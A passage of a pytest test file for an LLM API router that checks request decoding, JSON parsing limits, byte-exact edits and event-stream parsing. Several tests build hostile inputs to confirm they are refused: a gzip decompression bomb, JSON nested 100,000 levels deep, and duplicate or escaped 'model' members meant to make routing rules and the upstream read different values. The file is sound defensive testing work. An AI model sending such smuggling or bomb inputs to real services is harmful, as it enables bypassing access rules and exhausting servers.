            broken = [coded[:-cut] for cut in last] + [coded + more for more in (b"\0", coded)]
            if compress is not bare_deflate:
                # Without a head, nobody can see it.
                broken.append(b"\x78\xff" + coded)
            for data in broken:
                with pytest.raises(smolrouter.MalformedContent):
                    decode(data, coding.lower(), 10**9)
            if text:
                with pytest.raises(smolrouter.ContentTooLarge):
                    decode(coded, coding.lower(), len(text) - 1)


def post_coded(router: Router, path: str, content: bytes, coding: str, *more: Any) -> Response:
    """Post content that has this coding."""
    return request(router.port, "POST", path, content, [("Content-Encoding", coding), *more])


def test_servers_and_the_log_get_what_was_decoded() -> None:
    for coding, compress in REQUEST_CODINGS:
        for path in (CHAT, RESPONSES, ANTHROPIC, "/v1/anything", "/api/chat"):
            answer = json_response(completion({}, "fine"))
            model = default_upstream().add_script(answer)
            body = encode_json({"model": model, "messages": [], "input": "", "text": "x" * 999})
            kind = () if path == ANTHROPIC else (("Content-Type", "text/plain"),)
            if path != "/api/chat":
                got = post_coded(default_router(), path, compress(body), coding, *kind)
                assert got.status == 200, got.content
                (heard,) = default_upstream().requests_for(model)
                assert (heard.content, heard.get("Content-Encoding")) == (body, None)
                assert wait_for_detail(default_router(), model)["request_body"] == body.decode()
                continue
            message = {"role": "user", "content": "hi"}
            body = encode_json({"model": model, "messages": [message], "stream": False})
            got = post_coded(default_router(), path, compress(body), coding, *kind)
            assert (got.status, got.json["message"]["content"]) == (200, "fine")


def test_coded_requests_that_are_refused() -> None:
    router = shared_router({"DEFAULT_UPSTREAM": default_upstream().url, "MAX_REQUEST_SIZE": 5000})
    body = encode_json(chat_document("never"))
    twice = gzip.compress(gzip.compress(body))
    long = encode_json(chat_document("never", "a" * 5000))
    cases = (
        (400, "gzip", body, "no gzip"),
        (400, "gzip", gzip.compress(body)[:-1], "ends before"),
        (400, "gzip", gzip.compress(body) + b"\0", "follows"),
        (400, "gzip", gzip.compress(body) * 2, "follows"),
        (400, "gzip", twice, "not JSON"),
        (400, "deflate", gzip.compress(body), "no deflate"),
        (413, "gzip", gzip.compress(long), "MAX_REQUEST_SIZE"),
        (413, "deflate", zlib.compress(long), "MAX_REQUEST_SIZE"),
        (415, "gzip, gzip", twice, "send gzip, deflate or plain"),
        (415, "br", body, "send gzip, deflate or plain"),
        (415, "y" * 9000, body, "send gzip, deflate or plain"),
    )
    if sys.version_info < (3, 14):
        cases += ((415, "zstd", body, "zstd needs Python 3.14"),)
    with nothing_sent_upstream(default_upstream()):
        for status, coding, content, words in cases:
            for path in (CHAT, ANTHROPIC, "/api/chat"):
                got = post_coded(router, path, content, coding)
                assert (got.status, words in got.content.decode()) == (status, True), got.content
                assert len(got.content) < 400
        got = post_coded(router, CHAT, body, "br")
        assert got.get("Accept-Encoding") == "gzip, deflate"


def test_what_may_be_anything_keeps_an_unknown_coding() -> None:
    fields = (("Content-Type", "application/octet-stream"),)
    cases = (("/v1/uploads/a", "br"), (f"/upstream/box/v1/{'u' * 9}", "gzip"))
    router = shared_router({}, {"servers": {"box": default_upstream().url}})
    for number, (path, coding) in enumerate(cases):
        content = b"as it is %d" % number
        default_upstream().scripts[path.removeprefix("/upstream/box")] = lambda _: FINE_RESPONSE
        way = router if number else default_router()
        assert post_coded(way, path, content, coding, *fields).status == 200
        (heard,) = default_upstream().requests_for(content.decode())
        assert (heard.content, heard.get("Content-Encoding")) == (content, coding)


def test_a_coded_bomb_costs_nothing() -> None:
    settings = {"DEFAULT_UPSTREAM": default_upstream().url}
    with Router(settings) as router, nothing_sent_upstream(default_upstream()):
        post_coded(router, "/v1/nothing", b"{}", "br")
        before = memory_mib(router, "VmHWM")
        for got in map_in_threads(lambda _: post_coded(router, CHAT, bomb(), "gzip"), range(8)):
            assert got.status == 413
        assert memory_mib(router, "VmHWM") < before + 16


# ======================================================================================
# 4  JSON
# ======================================================================================
# Reading and its limits; edits keep every other byte, from the client to the server. What must
# be refused stands in BAD_JSON, what must pass in WELL_FORMED.

# --- reading --------------------------------------------------------------------------


@fuzz(lambda st: {"text": st.text('{}[],:"\\ntruefalsn0123.eE+- \t\n', max_size=30)})
def test_fuzz_json(text: str) -> None:
    """What is read is what `json` reads, and nothing else is raised."""

    def strict(name: str) -> None:
        raise ValueError(name)

    try:
        wanted = json.loads(text, parse_constant=strict)
    except ValueError:
        with pytest.raises(smolrouter.BadRequest):
            smolrouter.parse_json(text.encode())
    else:
        assert smolrouter.parse_json(text.encode()) == (text, wanted)


LONG = [
    '"' + "a" * (2 << 20) + '"', '"' + "\\\\" * (1 << 20) + '"', '"' + '\\"' * (1 << 20) + '"',
    '"' + "[{,}]" * 400_000 + '"', '"\\\\",' * 99_999 + '"\\\\\\""', "[1,2]," * 9_999 + "3",
]  # fmt: skip


@pytest.mark.parametrize("inner", LONG, ids=range(len(LONG)))
def test_long_json_is_read_as_others_read_it(inner: str) -> None:
    text = f'{{"model": "x", "x": [{inner}]}}'
    # Long texts are read in slices; no end of a slice may fall into an escape.
    for shift in range(3):
        padded = " " * shift + text
        assert smolrouter.parse_json(padded.encode()) == (padded, json.loads(text))
    gaps = "".join(smolrouter.outside_strings(text))
    assert gaps == re.sub(r'"[^"\\]*(?:\\.[^"\\]*)*"', "", text)


def test_deep_json_behind_a_long_text_is_refused() -> None:
    deep = '{"a": "' + "\\\\[" * (1 << 20) + '", "b": ' + "[" * 200 + "]" * 200 + "}"
    with pytest.raises(smolrouter.MalformedContent, match="deeper"):
        smolrouter.parse_json(deep.encode())


OBJECTS = [
    # what a server says, the object in it
    (b'{"a": 1}', {"a": 1}),
    (b' {"a": -Infinity}\r\n', {"a": float("-inf")}),
    ('{"a": "\xe9"}', {"a": "\xe9"}),
    (b"[1]", None),
    (b'{"a": 1} x', None),
    (b'{"a": ', None),
    (b'{"a": "\xff"}', None),
    (b"", None),
    (b'{"a":' * 5000, None),
]


@pytest.mark.parametrize("data, found", OBJECTS, ids=range(len(OBJECTS)))
def test_what_is_no_object_of_a_server_is_none(data: bytes | str, found: Any) -> None:
    assert smolrouter.parse_object(data) == found


def test_limits_of_json_are_counted_outside_of_strings() -> None:
    limits = smolrouter.Limits(json_depth=3, json_nodes=5, json_values=4)
    for text in ("[[[0]]]", '["[[[[[[[[", ",,,,,,,,"]', "[1,2,3,4,5]", "[[],[],[],[]]"):
        smolrouter.check_json_size(text, limits.json_values, limits)
    with pytest.raises(smolrouter.MalformedContent, match="deeper than 3 levels"):
        smolrouter.check_json_size("[[[[0]]]]", limits.json_values, limits)
    for text in ("[1,2,3,4,5,6]", "[[],[],[],[],[]]"):
        with pytest.raises(smolrouter.ContentTooLarge, match="too many parts"):
            smolrouter.check_json_size(text, limits.json_values, limits)


def test_a_number_that_no_double_holds_is_refused_or_null() -> None:
    assert smolrouter.encode_json({"a": [float("inf"), 1]}) == b'{"a":[null,1]}'
    with pytest.raises(smolrouter.MalformedContent, match="beyond"):
        smolrouter.encode_json_exactly({"a": float("inf")})
    for encode in (smolrouter.encode_json, smolrouter.encode_json_exactly):
        assert encode({"a": "\xe9"}) == '{"a":"\xe9"}'.encode()
        assert encode({"a": "\ud800"}) == b'{"a":"\\ud800"}'


def decode_both_ways(text: str) -> list[Any]:
    """Decode a text at once and in steps; what cannot be decoded is None."""
    decoder = smolrouter.SERVER_JSON
    found: list[Any] = []
    for decode in (decoder.raw_decode, functools.partial(smolrouter.decode_in_steps, decoder)):
        try:
            found.append(repr(decode(text)))
        except ValueError:
            found.append(None)
    return found


STEPS = ["{}", "[]", "[ ]", "{ }", "1", '"a"', '{"a":1}', ' {"a":1}', '{"a" : [1 , {"b":[2]}] }x',
         '{"a":1,"a":2,"b":3}', '[[1,2],[3],[]]', "[1,]", "[,1]", '{"a":1,}', '{"a"}', '{"a" 1}',
         '{1:2}', "[1 2]", "[1}", '{"a":1]', "[}", "{]", "[", "{", '{"a":', '{"a":1', "[1", "[1,",
         "", " ", '{"a":[}', '[{"a":1}', '{"\\u0061":NaN}']  # fmt: skip


@pytest.mark.parametrize("text", STEPS)
def test_steps_decode_what_the_decoder_does(text: str) -> None:
    for cut in range(len(text) + 1):
        at_once, in_steps = decode_both_ways(text[:cut])
        assert at_once == in_steps


@fuzz(lambda st: {"value": json_values(st), "at": st.integers(0, 50), "bit": st.text(max_size=1)})
def test_fuzz_steps(value: Any, at: int, bit: str) -> None:
    """A document, and one with a character changed, is read the same at once and in steps."""
    text = json.dumps(value)
    for one in (text, text[:at] + bit + text[at + 1 :]):
        at_once, in_steps = decode_both_ways(one)
        assert at_once == in_steps


# --- edits ----------------------------------------------------------------------------


REMOVALS = [
    ('{"a": 1, "u": 2}', '{"a": 1}'),
    ('{"u": 2, "a": 1}', '{"a": 1}'),
    ('{ "a":1 , "u" : {"u": [1,2]} , "b":"u" }', '{ "a":1 , "b":"u" }'),
    ('{"u": 1}', "{}"),
    ('{"u": 1, "u": 2, "a": 3, "u": 4}', '{"a": 3}'),
    ('{"a": {"u": 1}}', '{"a": {"u": 1}}'),
    ("{}", "{}"),
]


@pytest.mark.parametrize("text, left", REMOVALS)
def test_a_member_is_removed_with_its_comma(text: str, left: str) -> None:
    assert smolrouter.remove_member(text, "u") == left


SPLICES = [
    ('{"model":"a","x":1.0}', {("model",): "b"}, '{"model":"b","x":1.0}'),
    ('{ "x" : 1e3 , "model" : "a" }', {("model",): "b"}, '{ "x" : 1e3 , "model" : "b" }'),
    ('{"model":"a","model":"c"}', {("model",): "b"}, '{"model":"b","model":"b"}'),
    ('{"a":[1,{"b":"\\u00e9"}]}', {("a", 1, "b"): "x"}, '{"a":[1,{"b":"x"}]}'),
    ('{"a":1}', {("z",): {"y": True}}, '{"a":1,"z":{"y":true}}'),
    ("{}", {("z",): 1}, '{"z":1}'),
    ('{"a": [{"b": 1.0 }]}', {("a", 0, "c"): 2, ("a", 0, "d"): 3},
     '{"a": [{"b": 1.0 ,"c":2,"d":3}]}'),
    ('{"a": [1], "b": {}}', {("a", "x"): 1, ("b", "c", "d"): 2, ("c", "x"): 3, ("b", "e"): 4},
     '{"a": [1], "b": {"e":4}}'),
]  # fmt: skip


@pytest.mark.parametrize("text, edits, wanted", SPLICES)
def test_splice_changes_the_value_alone(text: str, edits: Any, wanted: str) -> None:
    assert smolrouter.edit_json(text, edits) == wanted


@fuzz(
    lambda st: {
        "doc": st.dictionaries(
            st.sampled_from(["model", "a", "é", '"']), json_values(st), max_size=4
        ),
        "model": json_values(st),
        "indent": st.sampled_from([None, 0, 2]),
        "ascii_only": st.booleans(),
    }
)
def test_fuzz_splicing(doc: dict, model: Any, indent: int | None, ascii_only: bool) -> None:
    """A spliced document is the same one with other values, as `json` reads it."""
    text = json.dumps(doc, indent=indent, ensure_ascii=ascii_only)
    assert smolrouter.parse_json(text.encode("utf-8", "surrogatepass"))[1] == doc
    edits = {("model",): model}
    inner = dict.fromkeys([("a", 0), ("a", "model"), ("a", 1, "a")], "x")
    spliced = json.loads(smolrouter.edit_json(text, edits | inner))
    wanted = {**doc, "model": model}
    for (_, *rest), value in inner.items():
        place = wanted.get("a")
        for key in rest[:-1]:
            fits = isinstance(place, list) and isinstance(key, int) and len(place) > key
            place = place[key] if fits else None
        last = rest[-1]
        # A member that an object has not got is added.
        if (isinstance(place, list) and isinstance(last, int) and len(place) > last) or (
            isinstance(place, dict) and isinstance(last, str)
        ):
            place[last] = value
    assert spliced == wanted


# --- requests that are refused --------------------------------------------------------

ODD: dict[str, bytes] = {
    "nothing": b"",
    "half a document": b'{"model": "EVIL"',
    "two documents": b'{"model": "EVIL"} {}',
    "an array": b'["EVIL"]',
    "null": b"null",
    "a number for a model": b'{"model": 7, "x": "EVIL"}',
    "a list for a model": b'{"model": ["EVIL"]}',
    "not a number": b'{"model": "EVIL", "x": NaN}',
    "5,000 digits": b'{"model": "EVIL", "x": ' + b"1" * 5000 + b"}",
    "201 levels": b'{"model": "EVIL", "x": ' + b"[" * 200 + b"]" * 200 + b"}",
    "100,000 levels": b'{"model": "EVIL", "x": ' + b"[" * 100_000,
    "no UTF-8": b'{"model": "EVIL", "x": "\xff"}',
}


@pytest.mark.parametrize("path", [CHAT, "/v1/completions", "/api/chat"])
@pytest.mark.parametrize("name", ODD)
def test_odd_document_is_answered_400(name: str, path: str) -> None:
    mark = default_upstream().add_script(FINE_RESPONSE)
    content = ODD[name].replace(b"EVIL", mark.encode())
    got = request(default_router().port, "POST", path, content)
    assert (got.status, bool(got.json["error"])) == (400, True)
    assert not default_upstream().requests_for(mark)


MESSAGES = b'"messages":[{"role":"user","content":"hi"}]'
BAD_JSON = {
    "nothing": b"",
    "half": b'{"model":"talk",',
    "two documents": b'{"model":"talk"}{"model":"talk"}',
    "array": b"[]",
    "string": b'"talk"',
    "null": b"null",
    "number": b"7",
    "single quotes": b"{'model':'talk'}",
    "trailing comma": b'{"model":"talk",}',
    "comment": b'{"model":"talk"/* */}',
    "nan": b'{"model":"talk","temperature":NaN}',
    "infinity": b'{"model":"talk","temperature":Infinity}',
    "minus infinity": b'{"model":"talk","temperature":-Infinity}',
    "integer of 5,000 digits": b'{"model":"talk","seed":' + b"7" * 5000 + b"}",
    "arrays 210 deep": b'{"model":"talk","x":' + b"[" * 209 + b"]" * 209 + b"}",
    "objects 210 deep": b'{"model":"talk","x":' + b'{"x":' * 208 + b"{}" + b"}" * 209,
    "arrays 100,000 deep": b'{"model":"talk","x":' + b"[" * 100_000,
    "invalid utf-8": b'{"model":"talk","user":"\xff\xfe"}',
    "model null": b'{"model":null,' + MESSAGES + b"}",
    "model number": b'{"model":5,' + MESSAGES + b"}",
    "model array": b'{"model":["talk"],' + MESSAGES + b"}",
    "model object": b'{"model":{},' + MESSAGES + b"}",
    "model true": b'{"model":true,' + MESSAGES + b"}",
    "model empty": b'{"model":"",' + MESSAGES + b"}",
    "model missing": b"{" + MESSAGES + b"}",
}
OPENAI_PATHS = ("/v1/chat/completions", "/v1/completions", "/v1/embeddings")
OLLAMA_PATHS = ("/api/chat", "/api/generate", "/api/embed", "/api/embeddings")


@pytest.mark.parametrize("content", BAD_JSON.values(), ids=BAD_JSON)
@pytest.mark.parametrize("path", (*OPENAI_PATHS, *OLLAMA_PATHS))
def test_bad_json(path: str, content: bytes) -> None:
    with nothing_sent_upstream():
        got = post_json(path, content)
    assert got.status == 400
    check_error(path, got)
    assert post_json("/v1/chat/completions", chat_document("talk")).status == 200


TWO_MODELS = {
    "side by side": b'{"model":"talk","model":"EVIL",X}',
    "alike": b'{"model":"talk","model":"talk",X}',
    "far apart": b'{"model":"talk",X,"model":"EVIL"}',
    "one null": b'{"model":null,X,"model":"talk"}',
    "one escaped": b'{"model":"talk",X,"mode\\u006C":"EVIL"}',
    "both escaped": b'{"\\u006dodel":"talk",X,"\\u006dodel":"EVIL"}',
}


@pytest.mark.parametrize("content", TWO_MODELS.values(), ids=TWO_MODELS)
@pytest.mark.parametrize("path", (*OPENAI_PATHS, *OLLAMA_PATHS, "/v1/responses", "/v1/new"))
def test_two_models_are_refused(path: str, content: bytes) -> None:
    """The rules would look at one, and the server at the other."""
    with nothing_sent_upstream():
        got = post_json(path, content.replace(b"X", b'"input":"hi",' + MESSAGES))
    assert got.status == 400
    assert b"two `model` members" in got.content
    check_error(path, got)


def test_two_names_of_ollama_are_refused() -> None:
    with nothing_sent_upstream():
        got = post_json("/api/chat", b'{"name":"talk","name":"EVIL",' + MESSAGES + b"}")
    assert (got.status, b"two `name` members" in got.content) == (400, True)
    # Only one of them is the model.
    both = b'{"name":"x","model":"talk","stream":false,' + MESSAGES + b"}"
    assert post_json("/api/chat", both).status == 200


ONE_MODEL = (
    b'{"model":"talk","tools":[{"model":1,"model":2}],X}',
    b'{"model":"talk","metadata":{"model":"x"},"user":"\\u006dodel",X}',
    b'{"model":"talk","user":"a \\"model\\": b",X}',
    b'{"model":"model",X}',
)


@pytest.mark.parametrize("content", ONE_MODEL)
def test_a_model_inside_of_something_is_no_second_one(content: bytes) -> None:
    content = content.replace(b"X", MESSAGES)
    if b'"model":"model"' in content:
        assert not smolrouter.has_twice(content.decode(), "model")
        return
    assert post_json("/v1/chat/completions", content).status == 200
    assert last_request().content == content


@fuzz(
    lambda st: {
        "names": st.lists(st.sampled_from(["model", "a", '"model"', "mode", "Model"]), max_size=4),
        "inner": json_values(st),
        "escaped": st.booleans(),
    }
)
def test_fuzz_members_that_stand_twice(names: list[str], inner: Any, escaped: bool) -> None:
    """What `json` reads as pairs of an object tells how often a name stands there."""
    members = [f"{json.dumps(name)}: {json.dumps(inner)}" for name in names]
    text = "{" + ", ".join(members) + "}"
    if escaped:
        text = text.replace("mo", r"\u006d\u006F")
    pairs = json.JSONDecoder(object_pairs_hook=tuple).decode(text)
    wanted = [name for name, _ in pairs].count("model") > 1
    assert smolrouter.has_twice(text, "model") == wanted


WELL_FORMED = {
    "arrays 190 deep": b"[" * 189 + b"]" * 189,
    "objects 190 deep": b'{"x":' * 188 + b"{}" + b"}" * 188,
    "brackets in a string": b'"' + b'[{\\"' * 500 + b'"',
    "a wide array": b"[" + b"[]," * 5000 + b"0]",
    "4,000 digits": b"7" * 4000,
    "NaN in a string": b'"NaN, Infinity"',
}


@pytest.mark.parametrize("value", WELL_FORMED.values(), ids=WELL_FORMED)
def test_unusual_but_good_request(value: bytes) -> None:
    content = b'{"model":"talk",' + MESSAGES + b',"x":' + value + b"}"
    assert post_json("/v1/chat/completions", content).status == 200
    assert last_request().content == content


MANY = {
    "objects": b'{"a":1},', "empty objects": b"{},", "arrays": b"[],", "numbers": b"1,",
    "strings": b'"",', "nulls": b"null,", "fractions": b"1.5,",
}  # fmt: skip


def test_enormous_json_is_refused_before_it_is_read() -> None:
    with router_and_upstream() as (router, upstream):
        for name, unit in MANY.items():
            model = upstream.add_script(FINE_RESPONSE)
            data = b'{"model":"%b","x":[%b0]}' % (model.encode(), unit * (8_000_000 // len(unit)))
            got = request(router.port, "POST", CHAT, data)
            assert (got.status, upstream.requests_for(model)) == (413, []), name
            assert post_chat(router, "tiny").status == 200
        assert memory_mib(router, "VmHWM") < 100


# --- requests and answers, to the byte ------------------------------------------------

HI = b'"messages":[{"role":"user","content":"hi"}]'
BODIES = {
    "compact": b'{"model":"%s",' + HI + b"}",
    "spaces": b'\n { "model"\t:  "%s" ,\r\n' + HI + b' , "n" : 1 } \n',
    "model last": b"{" + HI + b',"zeta":0,"alpha":1,"model":"%s"}',
    "floats": b'{"model":"%s","a":1.0,"b":1e0,"c":1E+3,"d":0.10,"e":-0.0,' + HI + b"}",
    "big numbers": b'{"model":"%s","seed":12345678901234567890123,"y":1e400,'
    b'"pi":3.14159265358979323846264338327950288,' + HI + b"}",
    "escapes": b'{"model":"%s","user":"\\u00e9\\uD83D\\ude00\\/\\u003cb>",' + HI + b"}",
    "lone surrogate": b'{"model":"%s","user":"\\ud800",' + HI + b"}",
    "utf-8": '{"model":"%s","user":"\xe9\U0001f600\u2028",'.encode() + HI + b"}",
    "other models": b'{"metadata":{"model":"x","m":["model"]},"model":"%s",'
    b'"tools":[{"model":"rule-talk"}],"u":"\\"model\\":\\"rule-talk\\"",' + HI + b"}",
    "unknown fields": b'{"model":"%s","":null,"\\u0000":[],"deep":'
    + b"[" * 90
    + b"]" * 90
    + b","
    + HI
    + b"}",
    "not streamed": b'{"stream" : false, "model":"%s",' + HI + b"}",
    "usage asked": b'{"stream":true,"model":"%s",'
    b'"stream_options" : {"include_usage":true},' + HI + b"}",
}


@pytest.mark.parametrize("body", BODIES.values(), ids=BODIES)
def test_request_that_needs_no_change(body: bytes) -> None:
    assert post_json("/v1/chat/completions", body % b"talk").status == 200
    assert last_request().content == body % b"talk"


@pytest.mark.parametrize("body", BODIES.values(), ids=BODIES)
@pytest.mark.parametrize("way", (*KINDS_OF_ROUTE, "as it is in JSON"))
def test_changed_model_is_the_only_difference(body: bytes, way: str) -> None:
    asked = rb"rule\u002dt\u0061lk" if " " in way else f"{way}-talk".encode()
    assert post_json("/v1/chat/completions", body % asked).status == 200
    assert last_request().content == body % b"talk"


@pytest.mark.parametrize("name", sorted(set(BODIES) - {"not streamed", "usage asked"}))
def test_wish_for_usage_changes_nothing_else(name: str) -> None:
    asked = re.sub(rb"\{", rb'{"stream":true,', BODIES[name] % b"rule-talk", count=1)
    assert post_json("/v1/chat/completions", asked).status == 200
    sent = last_request().content
    document = json.loads(sent)
    assert document.pop("stream_options") == {"include_usage": True}
    expected = json.loads(asked) | {"model": "talk"}
    assert list(document.items()) == list(expected.items())
    numbers = re.compile(rb":\s*(-?[0-9][0-9.eE+-]*)")
    assert numbers.findall(asked) == numbers.findall(sent)


ANSWERS = {
    "odd spacing": b'{ "id" : "x",\n"choices":[ {"index":0,"message":{"role":'
    b'"assistant","content":"a\\u00e9 1 \\/ 2"},"x":1.50} ],"usage":null} \n',
    "numbers": b'{"choices":[],"created":1.70e9,"big":123456789012345678901234567}',
    "less than": b'{"choices":[{"index":0,"message":'
    b'{"content":"a < b \\u003c c <b> <thin> <think"}}]}',
    "not JSON": b"It works!",
}


@pytest.mark.parametrize("content", ANSWERS.values(), ids=ANSWERS)
@pytest.mark.parametrize("prefix", ("", "rule-", "map-"))
def test_answer_is_not_changed(prefix: str, content: bytes) -> None:
    model = sdk_upstream().add_script(whole_response(content, kind="application/json"))
    got = post_json("/v1/chat/completions", chat_document(prefix + model))
    assert (got.status, got.content) == (200, content)


def test_many_model_names_in_one_request() -> None:
    name = default_upstream().add_script(FINE_RESPONSE)
    names = b'"model":"old-%s",' % name.encode() * 200_000
    settings = {
        "DEFAULT_UPSTREAM": default_upstream().url,
        "MODEL_MAP": '{"/^old-(.*)/": "\\\\1"}',
    }
    # A router of its own, because a fault would freeze it.
    with Router(settings) as router:
        got = request(router.port, "POST", CHAT, b'{%s"n": 1}' % names)
        assert (got.status, router.stop()) in ((200, 0), (400, 0))


# --- numbers that no double holds -----------------------------------------------------


@pytest.mark.parametrize("path, more", [
    ("/api/generate", {"prompt": "hi", "raw": True, "suffix": 1e999}),
    ("/api/embed", {"input": 1e999}), ("/api/embed", {"input": "a", "dimensions": 1e999}),
    (CHAT, {"messages": [], "stream": True, "stream_options": {"x": 1e999}}),
])  # fmt: skip
def test_number_that_no_double_holds_is_not_written_again(path: str, more: dict) -> None:
    with nothing_sent_upstream():
        got = post_json(path, encode_huge_numbers({"model": "talk", **more}))
    assert got.status == 400
    check_error(path, got)


def test_number_that_no_double_holds_stays_where_nothing_is_written() -> None:
    body = encode_huge_numbers(chat_document("talk", temperature=1e999, stream=True))
    assert post_json(CHAT, body).status == 200
    # `stream_options` is added at the end.
    assert last_request().content.startswith(body[:-1])


TOO_LARGE = {"function": {"name": "f", "arguments": '{"a":1e999}'}}
# A path, the answer of the server, and what a client gets of it.
HUGE_ANSWERS: Cases = (
    ("/api/embed", {"data": [{"embedding": [1e999, 1]}]}, b"[[null,1]]"),
    ("/api/chat", {"choices": [{"message": {"tool_calls": [TOO_LARGE]}, "finish_reason": "stop"}]},
     b'"arguments":{"a":null}'),
    ("/api/chat", {"choices": [{"message": {"tool_calls": [
        {"function": {"name": "f", "arguments": {"a": 1e999}}}]}}]}, b'"error":'),
    ("/api/chat", {"choices": [{"message": {"content": "a", "images": ["?"]}}]}, b'"error":'),
    (CHAT, {"choices": [{"message": {"content": "<think>a</think>b"}, "logprobs": -1e999}]},
     b'"b"},"logprobs":-1e999'),
)  # fmt: skip


@pytest.mark.parametrize("path, document, expected", HUGE_ANSWERS)
def test_number_that_no_double_holds_in_an_answer(
    path: str, document: dict, expected: bytes
) -> None:
    model = sdk_upstream().add_script(
        whole_response(encode_huge_numbers(document), kind="application/json")
    )
    got = post_json(
        path, {"model": model, "input": "a", "messages": HELLO_MESSAGES, "stream": False}
    )
    assert got.status == (502 if expected == b'"error":' else 200)
    assert expected in got.content


def test_infinite_log_probability_of_a_held_text_is_null() -> None:
    """An event of the router's own, for a text that was held, is JSON in any case."""
    said = {"choices": [{"index": 0, "delta": {"content": "<thi"}, "logprobs": -1e999}]}
    model = sdk_upstream().add_script(sse_response([encode_event(said), "[DONE]"]))
    got = post_json(CHAT, chat_document(model, stream=True))
    assert b'"logprobs":null' in got.content and b'"<thi"' in got.content


# ======================================================================================
# 5  Event streams
# ======================================================================================
# Where an event ends and where a stream is complete, at every split. A new way to end a stream
# gets a case in `test_what_ends_a_stream`.


@pytest.mark.parametrize("end", EVENT_ENDS)
def test_events_at_every_split(end: bytes) -> None:
    line_end = end[: len(end) // 2]
    data = b"data: a" + end + b": note" + end + b"event: x" + line_end + b"data: b" + end
    for pieces in every_split(data):
        reader = smolrouter.EventReader(smolrouter.SSE)
        blocks = [reader.feed(piece)[1] for piece in pieces]
        rest = reader.finish()
        assert b"".join(blocks) + rest == data
        for block in blocks:
            assert not block or block.endswith(end[-1:])


@pytest.mark.parametrize("event, data", [
    (b"data: x\n\n", b"x"), (b"data:x\n\n", b"x"), (b"data:  x\n\n", b" x"), (b"data: x", b"x"),
    (b"data: x\r\n\r\n", b"x"), (b"data: x\r\n\n", b"x"), (b"data: a\rdata: b\n\n", b"a\nb"),
    (b"data: a\ndata: b\n\n", b"a\nb"), (b"event: e\ndata: x\n\n", b"x"), (b": c\n\n", b""),
    (b"data: x\nid: 1\n\n", b"x"), (b"data\n\n", b""), (b"data: \n\n", b""), (b"\n\n", b""),
])  # fmt: skip
def test_data_of_an_event(event: bytes, data: bytes) -> None:
    assert smolrouter.SSE.read_data(event) == data


@pytest.mark.parametrize("end", EVENT_ENDS)
def test_documents_of_a_block(end: bytes) -> None:
    line_end = end[: len(end) // 2]
    events = [b'data: {"n":1}', b'id: 5' + line_end + b'data: {"n":2}', b": note", b"data: [DONE]",
              b'data: {"n":3}' + line_end + b"id: 6"]  # fmt: skip
    block = b"".join(event + end for event in events)
    assert smolrouter.SSE.read_documents(block) == [{"n": 1}, {"n": 2}, {"n": 3}]


ERROR_FIELDS = [
    (b'data: {"a":1}\n\n', {"a": 1}),
    (b'event: error\ndata: {"code":5}\n\n', {"error": {"code": 5}}),
    (b'event: error\ndata: {"error":"x"}\n\n', {"error": "x"}),
    (b"error: no memory\n\n", {"error": "no memory"}),
    (b'error: {"code":5}\r\n\r\n', {"error": {"code": 5}}),
    (b"event: error\n\n", {"error": "the upstream gave no reason"}),
    (b'event: x\ndata: {"a":"error: y"}\n\n', {"a": "error: y"}),
    (b": error\n\n", None),
    (b"data: [DONE]\n\n", None),
]


@pytest.mark.parametrize("event, document", ERROR_FIELDS)
def test_what_the_fields_of_an_event_call_an_error_is_one(event: bytes, document: Any) -> None:
    assert smolrouter.SSE.read_document(event) == document


@pytest.mark.parametrize("end", EVENT_ENDS)
def test_an_event_that_is_too_long_goes_as_it_comes(end: bytes) -> None:
    long, short = b"data: " + b"x" * 30 + end, b"data: y" + end
    data = b"\xef\xbb\xbf" + short + long + short + short
    for pieces in every_split(data):
        reader = smolrouter.EventReader(smolrouter.SSE, smolrouter.Limits(buffered_event=25))
        read = [reader.feed(piece) for piece in pieces]
        blocks = b"".join(block for _, block in read) + reader.finish()
        given_out = b"".join(apart + block for apart, block in read)
        assert (short + long + short + short).startswith(given_out)
        assert blocks.replace(short, b"") in (b"", long)
        last = [smolrouter.SSE.read_data(event) for event in reader.last_events()]
        assert last[-2:] == [b"y", b"y"]


@pytest.mark.parametrize("end", EVENT_ENDS)
def test_a_comment_inside_an_event_hides_nothing(end: bytes) -> None:
    comment = b": keep-alive" + end[: len(end) // 2]
    said = [comment + event for event in chat_stream("<think>no</think>Hi", " you")]
    data = b"".join(said).replace(b"\n\n", end)
    rewriter = stream_filter()
    left = rewriter.feed(data)
    assert rewriter.complete
    left += rewriter.finish()
    assert (texts_in(left, "choices", 0, "delta", "content"), b"no" in left) == ("Hi you", False)
    assert left.count(b": keep-alive") == len(said)
    lines = translated([data], True, {})
    assert "".join(line["message"]["content"] for line in lines) == "Hi you"
    error = comment + encode_event({"error": {"message": "no memory"}})
    rewriter = stream_filter()
    rewriter.feed(error.replace(b"\n\n", end))
    assert rewriter.trouble == "no memory"


def test_the_last_events_are_known_without_comments() -> None:
    for size in (1, 3, 50, 4000):
        events = [b"data: %d\n\n" % number for number in range(size)]
        for data in (b"".join(events), b"".join([*events, *[b": ping\n\n"] * 100])):
            reader = smolrouter.EventReader(smolrouter.SSE)
            reader.feed(data)
            assert reader.last_events() == [event[:-2] for event in events[-8:]]
    reader = smolrouter.EventReader(smolrouter.SSE)
    for event in events:
        reader.feed(event)
    assert reader.last_events() == [event[:-2] for event in events[-4:]]


EVENT_BITS = [
    b"data: ",
    b"data:",
    b"{}",
    b"[DONE]",
    b"\n\n",
    b"\n",
    b"\r\n",
    b"\r",
    b"event: x",
    b": note",
    b'"<think>"',
    b'{"choices":[{"delta":{"content":"a"}}]}',
    b"\xff",
]


@fuzz(lambda st: {"bits": lists_of_bits(st, EVENT_BITS, 20), "lines": st.booleans()})
def test_fuzz_events(bits: list[bytes], lines: bool) -> None:
    """Nothing is lost or changed, and blocks end where events do."""
    form = smolrouter.LINES if lines else smolrouter.SSE
    reader = smolrouter.EventReader(form)
    blocks = [reader.feed(piece)[1] for piece in bits]
    assert b"".join(blocks) + reader.finish() == b"".join(bits).removeprefix(b"\xef\xbb\xbf")
    for block in filter(None, blocks):
        assert block.endswith((b"\n", b"\r"))
        form.read_document(block)


END_TALK = {
    "error": None,
    "choices": [
        {
            "index": 0,
            "finish_reason": None,
            "delta": {
                "content": 'the mark [DONE] or "finish_reason":"stop" or "error" ends it, '
                '"done":true does'
            },
        }
    ],
}


@pytest.mark.parametrize("path, line, ends", [
    (CHAT, {"choices": [{"finish_reason": "stop"}]}, True), (CHAT, END_TALK, False),
    (CHAT, {"choices": [{"finish_reason": ""}, {"finish_reason": None}]}, False),
